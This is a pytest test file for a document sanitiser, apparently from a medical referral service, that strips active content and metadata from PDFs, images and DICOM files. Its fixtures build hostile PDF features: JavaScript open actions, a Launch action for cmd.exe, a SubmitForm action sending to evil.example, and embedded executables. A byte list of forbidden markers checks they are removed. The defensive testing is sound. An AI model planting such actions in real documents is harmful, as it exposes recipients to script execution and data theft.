"""Documents are really opened: what is broken, locked, too large or acts does not stay as it came."""

import inspect
import io
import subprocess
import zlib
from typing import Any

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

from accounts.errors import Refused
from referral import documents
from tests.referral import files

GPS = 0x8825
ORIENTATION = 0x0112


@pytest.fixture(autouse=True)
def _every_time(monkeypatch: pytest.MonkeyPatch) -> None:
    """Open each file here: elsewhere one that was found clean is not opened again (tests/conftest.py)."""
    monkeypatch.setattr(documents, "_examined", inspect.unwrap(documents._examined))


def cleaned(content: bytes, name: str = "a.pdf") -> bytes:
    return documents.checked(name, content).content


def refused(content: bytes) -> str:
    with pytest.raises(Refused) as refusal:
        documents.checked("a", content)
    return refusal.value.code


def script(said: str = "app.alert(1)") -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(said))


def opening(document: Any) -> None:
    document.Root.OpenAction = script()


def opening_by_reference(document: Any) -> None:
    document.Root.OpenAction = document.make_indirect(script())


def named(document: Any) -> None:
    tree = Dictionary(Names=Array([String("a"), document.make_indirect(script())]))
    document.Root.Names = Dictionary(JavaScript=document.make_indirect(tree))


def on_a_page(document: Any) -> None:
    document.pages[0].obj.AA = Dictionary(O=script())


def on_the_document(document: Any) -> None:
    document.Root.AA = Dictionary(WC=script(), WS=document.make_indirect(script()))


def in_a_link(document: Any) -> None:
    link = Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=script(), Border=Array([0])
    )
    document.pages[0].obj.Annots = Array([document.make_indirect(link)])


def after_a_harmless_one(document: Any) -> None:
    first = Dictionary(S=Name.Named, N=Name.NextPage, Next=Array([script()]))
    document.Root.Outlines = Dictionary(First=document.make_indirect(Dictionary(A=first)))


def in_a_field(document: Any) -> None:
    field = Dictionary(T=String("f"), FT=Name.Tx, AA=Dictionary(K=script(), C=script()))
    xfa = document.make_stream(b"<xdp><script>alert(1)</script></xdp>")
    document.Root.AcroForm = Dictionary(Fields=Array([document.make_indirect(field)]), XFA=xfa)


def launching(document: Any) -> None:
    action = Dictionary(S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe")))
    document.Root.OpenAction = action
    document.pages[0].obj.Annots = Array(
        [Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action)]
    )


def sending(document: Any) -> None:
    action = Dictionary(S=Name.SubmitForm, F=String("https://evil.example/"))
    document.pages[0].obj.Annots = Array(
        [Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action)]
    )


def _file(document: Any) -> Dictionary:
    stream = document.make_stream(b"MZ the program", Type=Name.EmbeddedFile)
    return Dictionary(Type=Name.Filespec, F=String("run.exe"), EF=Dictionary(F=stream))


def with_a_file(document: Any) -> None:
    spec = document.make_indirect(_file(document))
    tree = Dictionary(Names=Array([String("run.exe"), spec]))
    document.Root.Names = Dictionary(EmbeddedFiles=tree)
    document.Root.AF = Array([spec])


def with_a_file_on_the_page(document: Any) -> None:
    note = Dictionary(
        Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9]), FS=_file(document)
    )
    document.pages[0].obj.Annots = Array([document.make_indirect(note)])


ACTING = [
    opening,
    opening_by_reference,
    named,
    on_a_page,
    on_the_document,
    in_a_link,
    after_a_harmless_one,
    in_a_field,
    launching,
    sending,
    with_a_file,
    with_a_file_on_the_page,
]
FORBIDDEN = (
    b"JavaScript",
    b"app.alert",
    b"Launch",
    b"cmd.exe",
    b"SubmitForm",
    b"evil.example",
    b"XFA",
    b"xdp",
    b"OpenAction",
    b"/AA",
    b"EmbeddedFile",
    b"MZ the",
    b"FileAttachment",
)


@pytest.mark.parametrize("change", ACTING, ids=lambda change: change.__name__)
@pytest.mark.parametrize("packed", [False, True])
def test_a_pdf_acts_no_more(change: Any, packed: bool) -> None:
    mode = pikepdf.ObjectStreamMode.generate if packed else pikepdf.ObjectStreamMode.disable
    sent = files.pdf(change, object_stream_mode=mode, compress_streams=packed)
    kept = cleaned(sent)
    with pikepdf.open(io.BytesIO(kept)) as document:
        assert len(document.pages) == 1
        plain = io.BytesIO()
        document.save(
            plain,
            object_stream_mode=pikepdf.ObjectStreamMode.disable,
            compress_streams=False,
            stream_decode_level=pikepdf.StreamDecodeLevel.all,
        )
    for word in FORBIDDEN:
        assert word not in plain.getvalue(), word


def test_a_pdf_keeps_its_pages_links_and_words() -> None:
    def change(document: Any) -> None:
        page = document.pages[0].obj
        font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
        page.Resources = Dictionary(Font=Dictionary(AA=document.make_indirect(font)))
        page.Contents = document.make_stream(b"BT /AA 12 Tf 72 720 Td (result 5.2) Tj ET")
        there = Dictionary(S=Name.URI, URI=String("https://lab.example/"))
        page.Annots = Array(
            [Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=there)]
        )

    with pikepdf.open(io.BytesIO(cleaned(files.pdf(change)))) as document:
        page = document.pages[0].obj
        assert page.Resources.Font.AA.BaseFont == Name.Helvetica
        assert b"result 5.2" in page.Contents.read_bytes()
        assert String("https://lab.example/") == page.Annots[0].A.URI


def test_a_pdf_loses_who_made_it_and_what_hangs_behind() -> None:
    def change(document: Any) -> None:
        document.docinfo["/Author"] = "张三"

    sent = files.pdf(change) + b"PK\x03\x04 a page <script>alert(1)</script>\n%%EOF\n"
    kept = cleaned(sent)
    assert b"script" not in kept
    with pikepdf.open(io.BytesIO(kept)) as document:
        assert "/Author" not in document.docinfo


def test_cleaning_twice_changes_nothing() -> None:
    for sent in (files.pdf(in_a_field), files.picture("PNG"), files.dicom()):
        once = cleaned(sent)
        assert cleaned(once) == once


def test_a_password_is_refused_and_a_mere_restriction_lifted() -> None:
    locked = files.pdf(encryption=pikepdf.Encryption(owner="a", user="b"))
    assert refused(locked) == "document-encrypted"
    restricted = cleaned(files.pdf(encryption=pikepdf.Encryption(owner="a", user="")))
    with pikepdf.open(io.BytesIO(restricted)) as document:
        assert not document.is_encrypted


@pytest.mark.parametrize(
    "content",
    [
        files.pdf()[:-40],
        b"%PDF-1.7\n%%EOF\n",
        b"%PDF-1.7\n" + b"1 0 obj\n<<>>\nendobj\n" * 50 + b"trailer <</Root 1 0 R>>\n%%EOF\n",
        files.picture(size=(300, 300))[:-400],
        files.picture("PNG", size=(300, 300))[:-60],
        b"\xff\xd8\xff\xe0" + bytes(64),
        b"\x89PNG\r\n\x1a\n" + b"<script>alert(1)</script>" * 9,
        files.dicom()[:-8],
        files.dicom()[:300],
        bytes(128) + b"DICM" + bytes(64),
        bytes(128) + b"DICM" + b"<html>" * 40,
    ],
    ids=[
        "pdf cut",
        "pdf hollow",
        "pdf without pages",
        "jpeg cut",
        "png cut",
        "jpeg hollow",
        "png of text",
        "dicom cut",
        "dicom without pixels",
        "dicom hollow",
        "dicom of text",
    ],
)
def test_what_cannot_be_opened_is_refused(content: bytes) -> None:
    assert refused(content) == "document-broken"


def test_a_photograph_forgets_where_it_was_taken_and_stays_upright() -> None:
    exif = Image.Exif()
    exif[ORIENTATION] = 6
    exif[0x010F] = "maker"
    exif.get_ifd(GPS)[1] = "N"
    exif.get_ifd(GPS)[2] = (31.0, 13.0, 51.0)
    sent = files.picture(size=(64, 48), exif=exif, comment=b"Zhang San", quality=90)
    assert b"Zhang" in sent
    kept = cleaned(sent + b"PK\x03\x04 behind")
    with Image.open(io.BytesIO(kept)) as after, Image.open(io.BytesIO(sent)) as before:
        assert after.getexif().get_ifd(GPS) == {}
        assert dict(after.getexif()) == {ORIENTATION: 6}
        assert after.size == before.size == (64, 48)
        assert getattr(after, "quantization") == getattr(before, "quantization")  # noqa: B009
    assert b"Zhang" not in kept
    assert b"behind" not in kept


def test_a_png_keeps_its_pixels_and_no_texts() -> None:
    sent = files.picture("PNG", size=(40, 30))
    text = b"tEXtComment\x00Zhang San"
    chunk = (len(text) - 4).to_bytes(4, "big") + text + zlib.crc32(text).to_bytes(4, "big")
    kept = cleaned(sent[:33] + chunk + sent[33:])
    assert b"Zhang" not in kept
    with Image.open(io.BytesIO(sent)) as before, Image.open(io.BytesIO(kept)) as after:
        assert before.tobytes() == after.tobytes()


def test_too_many_pixels_are_refused_before_they_are_decoded() -> None:
    assert refused(files.picture("PNG", size=(8001, 5000))) == "document-pixels"
    head = files.picture("PNG")
    lying = head[:16] + (100_000).to_bytes(4, "big") * 2 + head[24:]
    assert refused(lying) in {"document-pixels", "document-broken"}


def test_a_dicom_file_is_no_program_and_has_no_name_of_the_patient() -> None:
    sent = b"MZ\x90\x00".ljust(128, b"\xcc") + files.dicom()[128:]
    document = documents.checked("ZHANG_SAN_1961.dcm", sent)
    assert document.name == "image.dcm"
    assert document.content[:132] == bytes(128) + b"DICM"
    assert document.content[128:] == sent[128:]


def test_the_examiner_sees_no_secret(monkeypatch: pytest.MonkeyPatch) -> None:
    seen: dict[str, Any] = {}
    real = subprocess.run

    def run(*args: Any, **words: Any) -> Any:
        seen.update(words)
        return real(*args, **words)

    monkeypatch.setattr(subprocess, "run", run)
    cleaned(files.pdf())
    assert set(seen["env"]) == {"PATH", "PYTHONDONTWRITEBYTECODE"}
    assert seen["timeout"] == documents.PATIENCE


def test_a_file_that_takes_too_long_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(documents, "PATIENCE", 0.01)
    assert refused(files.pdf()) == "document-broken"
